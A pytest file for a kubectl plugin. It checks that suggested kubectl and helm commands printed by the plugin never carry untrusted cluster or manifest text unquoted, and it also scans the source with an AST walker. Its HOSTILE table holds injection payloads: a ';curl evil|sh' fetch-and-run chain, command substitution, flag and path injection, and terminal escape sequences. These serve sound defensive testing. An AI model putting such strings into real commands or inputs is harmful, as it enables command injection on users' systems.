"""Printed commands contain no untrusted text, whatever a cluster, a file or a command line contains.

Each world is the demo cluster with hostile texts instead of its own. All commands of the plugin run on it, and every
printed line is searched: no hostile text follows ``kubectl`` or ``helm``, except words that the user typed, which are
quoted.
"""

from __future__ import annotations

import ast
import html
import json
import random
import re
import shlex
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, Final

import pytest
from msgspec.structs import replace

from cluster_io.demo import demo_objects
from kubectl_plugin.options import ClusterOptions
from kubectl_plugin.parsing.commands import COMMANDS
from podrules.api.escape import escape
from tests.kubectl_plugin.running import run, write_cluster
from tests.tree import ROOT

MARK: Final = "evil"
"""Part of each hostile text, and of no other text."""
HOSTILE: Final[dict[str, Callable[[str], str]]] = {
    "shell": lambda text: f"{text};curl {MARK}|sh #",
    "expansion": lambda text: f"{text}$({MARK})`{MARK}`'\"",
    "flag": lambda text: f"--{MARK}-{text}",
    "words": lambda text: f"--all --field-manager=a/{MARK} {text}",
    "selector": lambda text: f"{text},metadata.name={MARK}",
    "path": lambda text: f"{text}/../{MARK}",
    "terminal": lambda text: f"{text}\x1b]0;{MARK}\x07\n\u202e",
}
_NAMES: Final = re.compile("name|namespace|uid|holderIdentity|[a-zA-Z]*(Name|Namespace|Identity|Handle)")
_KEPT: Final = ("Lease", "Event")
"""Kinds that keep their texts when all names change: they show which nodes are silent, and what ended."""
_COMMAND: Final = re.compile(r"\b(?:kubectl|helm) .*")
_NEXT: Final = re.compile(r"^(?:Next +|         +)(kubectl .*)$", re.MULTILINE)
Pattern = tuple[str, ...]


def texts(entry: Any, path: Pattern) -> Iterator[Pattern]:
    """The place of each string in an object, without list indices."""
    if isinstance(entry, str):
        yield path
    for key, value in entry.items() if isinstance(entry, dict) else ():
        yield from texts(value, (*path, key))
    for value in entry if isinstance(entry, list) else ():
        yield from texts(value, path)


def changed(entry: Any, path: Pattern, hostile: Callable[[str], str], chosen: Callable[[Pattern], bool]) -> Any:
    """An object with hostile texts at the chosen places."""
    if isinstance(entry, str):
        return hostile(entry) if chosen(path) else entry
    if isinstance(entry, dict):
        return {key: changed(value, (*path, key), hostile, chosen) for key, value in entry.items()}
    return [changed(value, path, hostile, chosen) for value in entry] if isinstance(entry, list) else entry


def is_name(path: Pattern) -> bool:
    return path[0] not in _KEPT and _NAMES.fullmatch(path[-1]) is not None


def command_lines(file: str, pod: Any, rename: Callable[[str], str], folder: Path) -> Iterator[list[str]]:
    """Every command of the plugin, for a snapshot and a manifest, for lists and single objects."""
    manifest = folder / rename("web.yaml").replace("/", "_")
    manifest.write_text(json.dumps(pod))
    shop, pod = rename("shop"), f"pod/{rename('db-1')}"
    here = ["--snapshot", file]
    for form in ("table", "markdown"):
        yield ["explain", pod, "-n", shop, *here, "-o", form]
        yield ["explain", f"deployment/{rename('checkout')}", "-n", shop, *here, "-o", form]
        yield ["node", rename("node-c3"), *here, "-o", form]
        yield ["partitions", *here, "-o", form]
    yield ["explain", "pods", "-A", *here]
    yield ["explain", "nodes", *here, "-o", "wide"]
    yield ["explain", "deployments,statefulsets,daemonsets,jobs", "-A", *here]
    yield ["explain", pod, "-n", shop, "--timeline", *here]
    yield ["explain", f"pod/{rename('nowhere')}", *here]
    yield ["explain", rename("db-1"), *here]
    yield ["explain", f"{shop}/{rename('db-1')}", *here]
    yield ["explain", f"node/{rename('node-a1')}", *here]
    yield ["explain", "-f", str(manifest), "--offline"]
    yield ["explain", rename("x"), "-f", str(manifest), "--offline"]
    yield ["lint", "-f", str(manifest)]
    yield ["place", "-f", str(manifest), *here]
    yield ["place", f"node/{rename('node-a1')}", *here]
    yield ["place", f"deployment/{rename('checkout')}", rename("3"), "-n", shop, *here]
    yield ["place", "--drain", rename("node-a1"), *here]
    yield ["died", "-A", *here]
    yield ["died", pod, "-n", shop, *here]
    yield ["node", *here]
    yield ["report", "-A", *here]
    yield ["report", "-A", *here, "-o", str(folder / "report.html")]
    yield ["versions", "--to", "1.37", *here]
    yield ["versions", *here, "-n", shop]
    yield ["why", rename("Insufficient memory")]
    yield ["rights", "explain", "-n", rename("shop")]
    yield ["delete", pod, "-n", shop, "--grace-period=0", *here]
    yield ["delete", f"pod/{rename('db-0')}", "-n", shop, "--grace-period=0", *here]
    yield ["fence", f"node/{rename('node-c3')}", *here]
    yield ["unfence", f"node/{rename('node-c3')}", *here]
    yield ["snapshot", "-o", str(folder / "again.qos"), *here]
    yield [rename("expalin"), pod, *here]


def printed(line: list[str], folder: Path) -> str:
    """The output of a command, including commands that need a live cluster."""
    target = ClusterOptions.target
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(ClusterOptions, "target", lambda *given: replace(target(*given), live=True))
        ran = run(*line)
    page = folder / "report.html"
    text = ran.out + ran.err
    if page.exists():
        # The content of one element is on one line.
        text += "\n".join(map(html.unescape, re.findall(r">([^<]+)<", page.read_text())))
        page.unlink()
    return text


def run_all(objects: list[Any], rename: Callable[[str], str], folder: Path) -> tuple[set[str], set[str]]:
    """Run every command and return the suggested commands by their first words, and the first words of what was run.

    Raises:
        AssertionError: a hostile text follows ``kubectl``.
    """
    found, ran = set(), set()
    file = write_cluster(folder / "cluster.qos", objects)
    pod = next(entry for entry in objects if entry["kind"] == "Pod")
    for line in command_lines(file, pod, rename, folder):
        text = printed(line, folder)
        typed = {*line}
        for command in _COMMAND.findall(text):
            assert MARK not in command or only_typed(command, typed), f"{line}: {command}"
        found |= {shape(command) for command in _NEXT.findall(text)}
        ran.add(line[0])
    return found, ran


def only_typed(command: str, typed: set[str]) -> bool:
    """Whether each hostile word of a command was typed, or is a name in a typed word, and is quoted."""
    words = [word for word in shlex.split(command) if MARK in word]
    return all(any(re.sub("^(pod|node|deployment)/", "", word) in escape(one) for one in typed) for word in words)


def shape(command: str) -> str:
    """A suggested command without its names: ``kubectl qos explain {} -n {}``."""
    words = shlex.split(command.partition("   #")[0])
    ours = words[:3] if words[1] == "qos" else words[:2]
    rest = (word.partition("=")[0] if word.startswith("-") else "{}" for word in words[len(ours) :])
    return " ".join((*ours, *rest))


@pytest.fixture(scope="module")
def usual(tmp_path_factory: pytest.TempPathFactory) -> set[str]:
    """The shapes of all commands that the unchanged demo cluster suggests."""
    folder = tmp_path_factory.mktemp("usual")
    found, ran = run_all(demo_objects(), str, folder)
    assert ran >= set(COMMANDS), "a command of the plugin is not run here"
    assert len(found) > 15
    return found


def hold(folder: Path, hostile: Callable[[str], str], chosen: Callable[[Pattern], bool], usual: set[str]) -> None:
    """Run every command over a world; every suggested command has a shape that a harmless world suggests."""
    objects = [changed(entry, (entry["kind"],), hostile, chosen) for entry in demo_objects()]
    found, _ = run_all(objects, hostile if chosen(("Pod", "metadata", "name")) else str, folder)
    assert found <= usual


@pytest.mark.parametrize("value", ["expansion", "selector"])
def test_hostile_names_are_in_no_command(tmp_path: Path, value: str, usual: set[str]) -> None:
    hold(tmp_path, HOSTILE[value], is_name, usual)


@pytest.mark.long("test_hostile_names_are_in_no_command")
@pytest.mark.parametrize("kind", [None, "Pod", "Node"])
@pytest.mark.parametrize("value", HOSTILE)
def test_all_hostile_names_are_in_no_command(tmp_path: Path, value: str, kind: str | None, usual: set[str]) -> None:
    hold(tmp_path, HOSTILE[value], lambda path: is_name(path) and kind in {None, path[0]}, usual)


@pytest.mark.long("test_hostile_names_are_in_no_command")
@pytest.mark.parametrize("part", range(4))
def test_no_text_of_any_field_is_in_a_command(tmp_path: Path, part: int, usual: set[str]) -> None:
    chance = random.Random(20270104)  # noqa: S311  # no secret
    found = {place for entry in demo_objects() for place in texts(entry, (entry["kind"],))}
    places = sorted(place for place in found if place[1] not in {"kind", "apiVersion"})
    chance.shuffle(places)
    for number in range(6 * part, len(places), 24):
        some = frozenset(places[number : number + 6])
        hold(tmp_path, HOSTILE[chance.choice(sorted(HOSTILE))], some.__contains__, usual)


# Source code


_MAKERS: Final = {"command", "kubectl", "qos"}
"""Functions that take the text of a command and its names."""
_IN_COMMANDS: Final = r"\b(kubectl|helm|curl) |\b(kubectl|qos|command)\("
_QUOTED: Final = {"shlex.quote", "shlex.join", "command"}
_OWN: Final = {
    "kubectl_plugin/parsing": {"command", "place", "typed", "', '.join(having)"},
    "kubectl_plugin/manual.py": {"command"},
    "kubectl_plugin/cli.py": {"escape(why)"},
    "kubectl_plugin/render/command.py": {"text", "options"},
    "kubectl_plugin/views/pod/health_words.py": {"before"},
    "kubectl_plugin/views/scheduling/budget_words.py": {"counted(fails, 'pod')", "rest"},
    "kubectl_plugin/views/scheduling/plan.py": {"listed(flags)", "' {}' * len(names)"},
    "kubectl_plugin/views/caveats.py": {"row"},
    "cluster_io/errors.py": {"kind.plural"},
    "cluster_io/live/transport.py": {
        "error.strerror",
        "process.returncode",
        "getattr(error, 'strerror', None) or error",
    },
    "cluster_io/manifests": {"command", "folder"},
    "webhook/rules/force_delete.py": {"_READ % 'metadata.uid'"},
}
"""By file or folder: values that come from our own table, are quoted before, or are not part of a command."""


def unchecked(file: Path) -> Iterator[tuple[str, str]]:
    """Values formatted into the text of a command without a check."""
    name = file.relative_to(ROOT).as_posix()
    own = {value for place, values in _OWN.items() if name.startswith(place) for value in values}
    text = file.read_text()
    for node in ast.walk(ast.parse(text)) if re.search(_IN_COMMANDS, text) else ():
        if isinstance(node, ast.Call) and getattr(node.func, "id", "") in _MAKERS:
            given = [*node.args[:1], *(one.value for one in node.keywords if one.arg == "options")]
            parts = [part for one in given if isinstance(one, ast.JoinedStr) for part in one.values]
        elif isinstance(node, ast.JoinedStr):
            starts = [
                number
                for number, part in enumerate(node.values)
                if isinstance(part, ast.Constant) and re.search(r"\b(kubectl|helm|curl) ", str(part.value))
            ]
            parts = node.values[starts[0] :] if starts else []
        else:
            continue
        for value in (part.value for part in parts if isinstance(part, ast.FormattedValue)):
            function = ast.unparse(value.func) if isinstance(value, ast.Call) else ""
            written = ast.unparse(value)
            constant = re.fullmatch(r"_?[A-Z_]+(\.text)?", written) is not None
            if function not in _QUOTED and not constant and written not in own:
                yield name, written


def test_no_value_is_in_the_text_of_a_command_without_a_check() -> None:
    files = [
        file
        for package in ("podrules", "cluster_io", "webhook", "kubectl_plugin")
        for file in (ROOT / package).rglob("*.py")
    ]
    assert [found for file in files for found in unchecked(file)] == []
